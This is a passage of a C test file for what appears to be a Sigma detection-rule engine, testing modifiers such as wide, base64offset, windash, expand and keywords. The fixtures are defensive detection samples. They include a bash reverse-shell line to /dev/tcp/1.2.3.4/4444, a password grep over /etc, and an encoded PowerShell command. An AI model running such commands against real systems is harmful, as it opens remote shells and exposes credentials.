    /* wildcards pass through UTF-16 */
    CHECK_STR(alts_of("f|wide", STR("a*")), "a<00>*");
    CHECK_STR(alts_of("f|contains|wide", STR("a")), "*a<00>*");
    /* non-ASCII: UTF-8 read, surrogate pairs for astral characters */
    CHECK_STR(alts_of("f|wide", STR("\xc3\xa9")), "<e9><00>");
    CHECK_STR(alts_of("f|wide", STR("\xf0\x9f\x98\x80")), "=<d8><00><de>");
    REJECT("f|wide", STR("\xff"), "invalid byte");
    /* §5.1 wide|base64offset|contains (SigmaHQ) */
    CHECK_STR(alts_of("f|wide|base64offset|contains", STR("ping")),
              "*cABpAG4AZw*,*AAaQBuAGcA*,*wAGkAbgBnA*");
    MATCH("f|wide|base64offset|contains", STR("ping"),
          EV({"f", S, "powershell -enc cABpAG4AZwAgADEALgAxAC4AMQAuADEA"}));
    /* a wide value matched against an event holding NUL bytes (cased by folding only ASCII) */
    {
        static const char ev[] = "x\0C\0m\0D\0y";
        struct ty_sitem it;
        struct ty_err err = {0};
        struct ty_fval v = {.kind = TY_FV_STR, .s = {ev, sizeof(ev) - 1}};
        CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|wide|contains"), STR("cmd"), NULL, &A,
                                   NULL, &err), 0);
        CHECK(ty_sv_match(&it.g[0].alt[0], &v));
        ty_sitem_release(&it);
    }
}

static void t_windash(void)
{
    /* §11.30 */
    MATCH("CommandLine|windash|contains", STR(" -exec"),
          EV({"CommandLine", S, "tool.exe /exec bypass"}));
    MATCH("CommandLine|windash|contains", STR(" -exec"),
          EV({"CommandLine", S, "tool.exe \xe2\x80\x93" "exec"}));
    MATCH("CommandLine|windash|contains", STR(" -exec"),
          EV({"CommandLine", S, "tool.exe \xe2\x80\x94" "exec"}));
    MATCH("CommandLine|windash|contains", STR(" -exec"),
          EV({"CommandLine", S, "tool.exe \xe2\x80\x95" "exec"}));
    NOMATCH("f|windash|contains", STR("no-profile"), EV({"f", S, "x no/profile"}));
    CHECK_STR(alts_of("f|windash", STR("-param-1")),
              "-param-1,/param-1,<e2><80><93>param-1,<e2><80><94>param-1,<e2><80><95>param-1");
    /* two flags give 25 variants */
    {
        struct ty_sitem it;
        struct ty_err err = {0};
        CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|windash|contains"), STR("-a -b"), NULL, &A,
                                   NULL, &err), 0);
        CHECK_INT(it.g[0].n, 25);
        ty_sitem_release(&it);
    }
    /* a flag right after a wildcard is at a segment start (contains then windash) */
    CHECK_STR(alts_of("f|contains|windash", STR("-x")),
              "*-x*,*/x*,*<e2><80><93>x*,*<e2><80><94>x*,*<e2><80><95>x*");
    /* a dash followed by a wildcard or a non-word character is left alone */
    CHECK_STR(alts_of("f|windash", STR("a -*")), "a -*");
    /* "--x": the second dash starts a word (Python \\B[-/]\\b) */
    CHECK_STR(alts_of("f|windash", STR("--x")),
              "--x,-/x,-<e2><80><93>x,-<e2><80><94>x,-<e2><80><95>x");
    /* §5.1 windash|contains|all: groups AND-ed, variants OR-ed inside each */
    MATCH("CommandLine|windash|contains|all", SEQ(STR("-foo"), STR("-bar")),
          EV({"CommandLine", S, "x /foo \xe2\x80\x94" "bar"}));
    NOMATCH("CommandLine|windash|contains|all", SEQ(STR("-foo"), STR("-bar")),
            EV({"CommandLine", S, "x /foo"}));
    /* endswith|windash */
    MATCH("f|endswith|windash", STR(" -q"), EV({"f", S, "run /q"}));
    /* too many flags */
    CHECK_INT(comp_err("f|windash", STR("-a -b -c -d -e -f")), TY_ETOOBIG);
    CHECK(strstr(ERRMSG, "variants") != NULL);
}

static void t_expand(void)
{
    static struct ty_str admins[] = {{"Administrators", 14}, {"Domain Admins", 13}};
    static struct ty_str servers[] = {{"srv-*", 5}};
    static struct ty_placeholder p[] = {
        {{"Administrators", 14}, admins, 2},
        {{"Servers", 7}, servers, 1},
    };
    static struct ty_placeholders ph = {p, 2};
    /* §11.37 unresolved placeholder rejects the rule; without expand it is literal */
    REJECT("f|expand", STR("%servers%"), "unresolved placeholder '%servers%'");
    MATCH("f", STR("%name%"), EV({"f", S, "%name%"}));
    PH = &ph;
    REJECT("f|expand", STR("%servers%"), "unresolved"); /* names are case-sensitive */
    MATCH("f|expand", STR("%Administrators%"), EV({"f", S, "domain admins"}));
    NOMATCH("f|expand", STR("%Administrators%"), EV({"f", S, "%Administrators%"}));
    /* §5.1 contains|expand; a placeholder value's wildcards are live */
    MATCH("f|contains|expand", STR("host=%Servers%."), EV({"f", S, "x host=SRV-db1.corp"}));
    NOMATCH("f|contains|expand", STR("host=%Servers%."), EV({"f", S, "x host=web1.corp"}));
    /* \% is a literal percent under expand */
    MATCH("f|expand", STR("100\\% of %Servers%"), EV({"f", S, "100% of srv-9"}));
    /* \\% is a backslash before the placeholder */
    MATCH("f|expand", STR("a\\\\%Servers%"), EV({"f", S, "a\\srv-1"}));
    /* a lone percent stays literal */
    MATCH("f|expand", STR("50% %Servers%"), EV({"f", S, "50% srv-x"}));
    /* a value with two placeholders: the product */
    {
        struct ty_sitem it;
        struct ty_err err = {0};
        CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|expand"),
                                   STR("%Administrators%/%Administrators%"), &ph, &A, NULL, &err),
                  0);
        CHECK_INT(it.n, 1);
        CHECK_INT(it.g[0].n, 4);
        ty_sitem_release(&it);
    }
    /* re|expand: values inserted as escaped literals */
    MATCH("f|re|expand", STR("^%Administrators%$"), EV({"f", S, "Domain Admins"}));
    MATCH("f|re|expand", STR("^%Servers%$"), EV({"f", S, "srv-*"}));
    NOMATCH("f|re|expand", STR("^%Servers%$"), EV({"f", S, "srv-1"}));
    REJECT("f|expand", INT(5), "string");
    PH = NULL;
}

static void t_timeparts(void)
{
    /* 2024-03-12 is a Tuesday in ISO week 11 */
    MATCH("t|hour", INT(14), EV({"t", S, "2024-03-12T14:05:09Z"}));
    MATCH("t|minute", INT(5), EV({"t", S, "2024-03-12T14:05:09Z"}));
    MATCH("t|day", INT(12), EV({"t", S, "2024-03-12T14:05:09Z"}));
    MATCH("t|week", INT(11), EV({"t", S, "2024-03-12T14:05:09Z"}));
    MATCH("t|month", INT(3), EV({"t", S, "2024-03-12T14:05:09Z"}));
    MATCH("t|year", INT(2024), EV({"t", S, "2024-03-12T14:05:09Z"}));
    NOMATCH("t|year", INT(2023), EV({"t", S, "2024-03-12T14:05:09Z"}));
    /* no zone conversion: the wall clock as written */
    MATCH("t|hour", INT(23), EV({"t", S, "2024-03-12 23:30:00+05:00"}));
    /* ISO week edge: 2021-01-03 is in week 53 of 2020, 2024-12-30 in week 1 */
    MATCH("t|week", INT(53), EV({"t", S, "2021-01-03T00:00:00Z"}));
    MATCH("t|week", INT(1), EV({"t", S, "2024-12-30T00:00:00Z"}));
    /* with a comparison */
    MATCH("t|hour|gte", INT(18), EV({"t", S, "2024-03-12T19:00:00Z"}));
    NOMATCH("t|hour|gte", INT(18), EV({"t", S, "2024-03-12T17:59:59Z"}));
    /* epoch seconds, UTC */
    MATCH("t|hour", INT(14), EV({"t", N, "1710252309"}));
    MATCH("t|year", INT(1969), EV({"t", N, "-1"}));
    NOMATCH("t|hour", INT(14), EV({"t", S, "yesterday"}));
    REJECT("t|hour", STR("14"), "number");
    REJECT("t|gte|hour", INT(14), "number");
    REJECT("t|hour|gte|lt", INT(14), "number");
}

static void t_keywords(void)
{
    /* §11.14 OR of case-insensitive substrings */
    struct mock *ev = EV({"msg", S, "x; BASH -i >& /dev/tcp/1.2.3.4/4444 0>&1"});
    CHECK_INT(kw_run(SEQ(STR("nope"), STR("bash -i >& /dev/tcp/")), ev), 1);
    CHECK_INT(kw_run(STR("nope"), ev), 0);
    /* wildcards stay active in keywords */
    CHECK_INT(kw_run(STR("bash*4444"), ev), 1);
    CHECK_INT(kw_run(STR("bash?-i"), ev), 1);
    /* numbers are keywords by text */
    CHECK_INT(kw_run(INT(4444), ev), 1);
    CHECK_INT(kw_run(INT(4445), ev), 0);
    /* the raw line when there is one */
    struct mock *raw = EV({"msg", S, "other"});
    raw->raw = "Accepted password for root";
    CHECK_INT(kw_run(STR("accepted PASSWORD"), raw), 1);
    /* §11.15 '|all' keywords AND-ed */
    MATCH("|all", SEQ(STR("grep"), STR("password")), EV({"cmd", S, "grep -r password /etc"}));
    NOMATCH("|all", SEQ(STR("grep"), STR("password")), EV({"cmd", S, "grep -r secret"}));
    /* |all over separate values: each keyword may hit a different value */
    MATCH("|all", SEQ(STR("grep"), STR("password")), EV({"a", S, "grep"}, {"b", S, "password"}));
    /* keyword items with modifiers */
    MATCH("|re", STR("dev/tcp/\\d+"), EV({"m", S, "x /dev/tcp/1"}));
    MATCH("|startswith", STR("accepted"), EV({"m", S, "Accepted x"}));
    NOMATCH("|startswith", STR("accepted"), EV({"m", S, "x Accepted"}));
    /* null keyword and empty keyword list are errors */
    {
        struct ty_sitem it;
        struct ty_err err = {0};
        CHECK_INT(ty_sitem_compile_keywords(&it, NULLV, &A, NULL, &err), TY_EINVAL);
        CHECK(strstr(err.msg, "null") != NULL);
        CHECK_INT(ty_sitem_compile_keywords(&it, SEQ(STR("a"), NULLV), &A, NULL, &err), TY_EINVAL);
        CHECK_INT(ty_sitem_compile_keywords(&it, SEQ0, &A, NULL, &err), TY_EINVAL);
    }
    REJECT("|exists", BOOL(true), "needs a field");
    REJECT("|cidr", STR("10.0.0.0/8"), "needs a field");
    REJECT("|gt", INT(1), "needs a field");
    /* nothing to search */
    CHECK_INT(kw_run(STR("x"), NOEV), 0);
}

static void t_errors(void)
{
    REJECT("f|contain", STR("a"), "unknown modifier 'contain' (allowed: contains, ");
    REJECT("f||contains", STR("a"), "unknown modifier ''");
    REJECT("f|contains|exists", BOOL(true), "must come first");
    REJECT("f|exists", INT(1), "true or false");
    REJECT("f|contains", BOOL(true), "not a boolean");
    REJECT("f|contains", NULLV, "null takes no value modifier");
    REJECT("f|cased", BOOL(false), "string");
    REJECT("f", SEQ(SEQ(STR("a"))), "list of scalars");
    {
        struct ty_ynode *map = ty_arena_alloc(&A, sizeof(*map));
        memset(map, 0, sizeof(*map));
        map->kind = TY_Y_MAP;
        REJECT("f", map, "not a map");
    }
    /* warnings: the same modifier twice */
    ty_buf_reset(&W);
    MATCH("f|contains|contains", STR("a"), EV({"f", S, "xax"}));
    CHECK(strstr(W.buf, "twice") != NULL);
    /* the error leaves the item released (no PCRE2 code leaks under LSan) */
    REJECT("f|re", SEQ(STR("ok"), STR("bad(")), "invalid regular expression");
}

/* The substring search (SSE2 filter, fold buffer windows) against a naive
 * search, on random texts over a small alphabet so matches are frequent. */
static void t_find_differential(void)
{
    static char hay[5000], nd[40], fh[5000];
    uint32_t seed = 12345;
    int bad = 0;
    for (int round = 0; round < 3000 && bad < 5; round++) {
        size_t hn, nn;
        seed = seed * 1103515245u + 12345u;
        hn = (seed >> 8) % (round % 10 == 0 ? 4500 : 90);
        seed = seed * 1103515245u + 12345u;
        nn = 1 + (seed >> 8) % 12;
        for (size_t i = 0; i < hn; i++) {
            seed = seed * 1103515245u + 12345u;
            hay[i] = "abAB-\\x"[(seed >> 16) % 7];
        }
        for (size_t i = 0; i < nn; i++) {
            seed = seed * 1103515245u + 12345u;
            nd[i] = "ab-\\x"[(seed >> 16) % 5];
        }
        for (size_t i = 0; i < hn; i++)
            fh[i] = (char)ty_fold((unsigned char)hay[i]);
        ptrdiff_t want = -1;
        for (size_t i = 0; i + nn <= hn && want < 0; i++)
            if (memcmp(fh + i, nd, nn) == 0)
                want = (ptrdiff_t)i;
        ptrdiff_t got = ty__fold_find(hay, hn, nd, nn, false);
        ptrdiff_t got_cased = ty__fold_find(fh, hn, nd, nn, true);
        if (got != want || got_cased != want) {
            ty_test_fail(__FILE__, __LINE__, "find: hn %zu nn %zu: got %td/%td, want %td", hn,
                         nn, got, got_cased, want);
            bad++;
        }
    }
}

static void t_no_alloc_per_eval(void)
{
    /* a regex on many values: the match data is per thread, reused */
    struct ty_sitem it;
    struct ty_err err = {0};
    struct mock *ev = EV({"f", S, "abc"}, {"f", S, "xyz"});
    ev->src.each = mock_each;
    ev->src.keywords = mock_keywords;
    CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|re"), STR("y"), NULL, &A, NULL, &err), 0);
    int hits = 0;
    for (int i = 0; i < 1000; i++)
        hits += ty_sitem_eval(&it, &ev->src, NULL);
    CHECK_INT(hits, 1000);
    /* one walk of the field for an OR of several values */
    ev->n_each = 0;
    ty_sitem_release(&it);
    CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|contains"), SEQ(STR("q"), STR("r"), STR("z")),
                               NULL, &A, NULL, &err), 0);
    CHECK(ty_sitem_eval(&it, &ev->src, NULL));
    CHECK_INT(ev->n_each, 1);
    ty_sitem_release(&it);
}

/* Compiled items are shared by detection threads: the regex match data is
 * per thread (freed at thread exit, which LSan checks). */
struct thr {
    const struct ty_sitem *it;
    int hits;
};

static void *thr_main(void *arg)
{
    struct thr *t = arg;
    struct mock ev = {.f = (const struct mf[]){{"f", S, "cmd.exe /c whoami"}}, .n = 1};
    ev.src.each = mock_each;
    ev.src.keywords = mock_keywords;
    for (int i = 0; i < 2000; i++)
        t->hits += ty_sitem_eval(t->it, &ev.src, NULL);
    return NULL;
}

static void t_threads(void)
{
    struct ty_sitem it;
    struct ty_err err = {0};
    struct thr t[3];
    pthread_t th[3];
    CHECK_INT(ty_sitem_compile(&it, TY_STR_LIT("f|re|i"), STR("WHOAMI$"), NULL, &A, NULL, &err),
              0);
    for (int i = 0; i < 3; i++) {
        t[i] = (struct thr){&it, 0};
        CHECK_INT(pthread_create(&th[i], NULL, thr_main, &t[i]), 0);
    }
    for (int i = 0; i < 3; i++) {
        pthread_join(th[i], NULL);
        CHECK_INT(t[i].hits, 2000);
    }
    ty_sitem_release(&it);
}

void test_sigma_value(void);
static void regex_prefilter(void);

void test_sigma_value(void)
{
    regex_prefilter();
    ty_arena_init(&A, 65536, 0);
    ty_buf_init(&W, 1 << 20);
    t_plain_and_case();
    t_wildcards_escapes();
    t_compiled_form();
    t_lists_all_neq();
    t_null_empty_exists();
    t_numbers();
    t_regex();
    t_cidr();
    t_fieldref();
    t_encodings();
    t_windash();
    t_expand();
    t_timeparts();
    t_keywords();
    t_errors();
    t_find_differential();
    t_no_alloc_per_eval();
    t_threads();
    ty_buf_release(&W);
    ty_arena_release(&A);
}

/* The regex literal prefilter never rejects a text the regex matches
 * (sigma-value.c re_required_literal): patterns with optional atoms,
 * classes, groups, escapes, inline flags and quantifiers. */
static void regex_prefilter(void)
{
    static const struct {
        const char *re, *text;
        bool match;
    } cases[] = {
        {"ipconfig\\s+/all", "cmd /c ipconfig  /all", true},
        {"ipconfig\\s+/all", "cmd /c IPCONFIG  /all", false},
        {"(?i)IPCONFIG\\s+/all", "cmd /c ipconfig /all", true},
        {"foo{0,2}bar", "fobar", true},
        {"ab?cdef", "acdef", true},
        {".+:assumed-role/aws:.+", "arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1", true},
        {".+:assumed-role/aws:.+", "arn:aws:sts::1:assumed-role/admin/i-1", false},
        {"a\\.bcd", "xa.bcdx", true},
        {"a\\.bcd", "xaxbcdx", false},
        {"a\\d{3}bcd", "a123bcd", true},
        {"(abc)+def", "abcabcdef", true},
        {"abc|xyz", "xyz", true},
        {"\\bfoo\\b", "a foo b", true},
        {"(?x) a b c", "abc", true},
        {"ab+cde", "abbbcde", true},
        {"^[a-z]+\\.exe$", "cmd.exe", true},
        {"(?s)start.end", "start\nend", true},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct ty_arena a;
        struct ty_err err;
        struct ty_sitem it;
        ty_arena_init(&a, 4096, 0);
        memset(&it, 0, sizeof(it));
        struct ty_ynode v = {.kind = TY_Y_SCALAR, .stype = TY_YS_STR, .quoted = true,
                             .text = ty_str_cstr(cases[i].re)};
        CHECK(ty_sitem_compile(&it, TY_STR_LIT("f|re"), &v, NULL, &a, NULL, &err) == 0);
        struct ty_fval fv = {.kind = TY_FV_STR, .s = ty_str_cstr(cases[i].text)};
        if (it.n == 1 && it.g[0].n == 1) {
            bool got = ty_sv_match(&it.g[0].alt[0], &fv);
            if (got != cases[i].match)
                ty_test_fail(__FILE__, __LINE__, "regex %s on \"%s\": %d, expected %d",
                             cases[i].re, cases[i].text, got, cases[i].match);
        } else {
            CHECK(false);
        }
        ty_sitem_release(&it);
        ty_arena_release(&a);
    }
}
